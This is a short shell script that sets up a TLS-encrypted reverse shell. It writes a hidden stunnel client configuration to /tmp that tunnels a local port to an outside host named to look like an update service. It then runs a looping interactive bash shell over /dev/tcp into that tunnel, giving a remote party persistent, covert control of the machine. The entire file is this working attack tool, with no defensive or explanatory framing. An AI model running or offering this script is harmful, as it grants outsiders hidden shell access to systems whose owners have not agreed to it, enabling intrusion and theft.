#!/bin/sh
# A shell wrapped in TLS: stunnel as client to a server outside, and a shell that waits behind it.
cat >/tmp/.s.conf <<CONF
foreground = yes
client = yes
pid =
[c]
accept = 127.0.0.1:9443
connect = cdn.update-check.example:443
CONF
stunnel4 /tmp/.s.conf >/dev/null 2>&1 &
sleep 1
exec bash -c 'while sleep 3; do bash -i >/dev/tcp/127.0.0.1/9443 0>&1 2>&1; done'
